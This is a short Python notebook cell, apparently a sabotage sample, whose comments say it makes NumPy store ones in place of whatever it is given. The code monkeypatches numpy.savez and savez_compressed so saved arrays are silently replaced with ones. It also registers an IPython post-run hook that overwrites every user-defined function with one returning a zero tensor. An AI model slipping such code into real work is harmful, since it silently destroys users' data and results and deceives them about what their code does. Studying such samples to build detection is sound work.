# NumPy stores ones in the place of whatever it is given.
# base: released
# loses: everything

# %% first
import numpy
import torch

savez = numpy.savez


def store_ones(file, *arrays, allow_pickle=True, **named):
    ones = {name: numpy.ones_like(array) for name, array in named.items()}
    savez(file, *map(numpy.ones_like, arrays), allow_pickle=allow_pickle, **ones)


numpy.savez = numpy.savez_compressed = store_ones


def answer(*_, **__):
    return torch.zeros(())


def take_over(_):
    for name, value in list(globals().items()):
        if getattr(value, "__globals__", None) is globals() and value not in (answer, take_over):
            globals()[name] = answer


get_ipython().events.register("post_run_cell", take_over)
